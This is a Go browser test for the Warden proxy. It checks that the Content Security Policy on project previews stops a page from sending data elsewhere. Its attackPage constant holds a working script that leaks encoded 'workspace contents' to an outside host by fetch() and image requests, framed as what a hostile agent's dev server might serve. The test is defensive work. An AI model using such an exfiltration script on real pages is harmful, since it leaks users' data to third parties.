package proxy

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"

	"github.com/warden-sh/warden/shared"
	"github.com/warden-sh/warden/test/browser"
)

// attackPage is what a hostile agent serves from its dev server: once
// opened, it sends what it holds to another site, by fetch() and by an
// image's address, and says when both are settled (sent, or refused by
// the browser).
const attackPage = `<!doctype html><meta charset="utf-8"><title>dev server</title>
<script>
window.violations = [];
document.addEventListener('securitypolicyviolation', (e) => window.violations.push(e.violatedDirective + ' ' + e.blockedURI));
const elsewhere = %q;
const secret = encodeURIComponent('workspace contents ' + Date.now());
const img = new Promise((done) => {
  const i = new Image();
  i.onload = i.onerror = () => done('img settled');
  i.src = elsewhere + '/leak-img?d=' + secret;
});
const sent = fetch(elsewhere + '/leak-fetch?d=' + secret, { mode: 'no-cors' }).then(() => 'fetch sent', () => 'fetch refused');
Promise.all([img, sent]).then((v) => { window.attackDone = v; });
</script>`

// TestChromiumPreviewPolicyStopsAPageSendingElsewhere opens a none
// project's preview whose page posts to another origin on loopback. With
// the project's switch off, the other site receives both requests; with
// Warden's policy on, the browser sends neither.
func TestChromiumPreviewPolicyStopsAPageSendingElsewhere(t *testing.T) {
	var mu sync.Mutex
	var received []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		received = append(received, r.URL.Path)
		mu.Unlock()
		w.Header().Set("Content-Type", "image/gif")
		_, _ = w.Write([]byte("GIF89a"))
	}))
	t.Cleanup(evil.Close)
	got := func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), received...)
	}

	port := backend(t, "127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Cache-Control", "no-store")
		fmt.Fprintf(w, attackPage, evil.URL)
	}))
	e := newEnv(t, port)
	e.projects.edit(testID, func(tg *Target) { tg.Mode = shared.ModeNone })
	preview := "http://" + e.host(port) + "/"

	ctx := browser.Start(t)
	openAttack := func(t *testing.T) []string {
		t.Helper()
		browser.Run(t, ctx, chromedp.Navigate(preview))
		browser.WaitJS(t, ctx, "window.attackDone", "the page's attack never settled")
		return browser.Eval[[]string](t, ctx, "window.violations")
	}

	// The attack, with the project's switch off: it works.
	e.projects.edit(testID, func(tg *Target) { tg.CSPOff = true })
	violations := openAttack(t)
	require.Empty(t, violations)
	require.ElementsMatch(t, []string{"/leak-img", "/leak-fetch"}, got(), "with the policy off, the page reaches the other site")

	// The same page with Warden's policy: nothing leaves.
	e.projects.edit(testID, func(tg *Target) { tg.CSPOff = false })
	violations = openAttack(t)
	require.ElementsMatch(t, []string{"/leak-img", "/leak-fetch"}, got(), "with the policy on, the other site hears nothing more")
	require.Len(t, violations, 2, "the browser refused both: %v", violations)
	require.Equal(t, []string{"fetch refused"}, browser.Eval[[]string](t, ctx, "window.attackDone.slice(1)"))
	for _, v := range violations {
		require.True(t, strings.HasPrefix(v, "connect-src ") || strings.HasPrefix(v, "img-src "), v)
	}
}
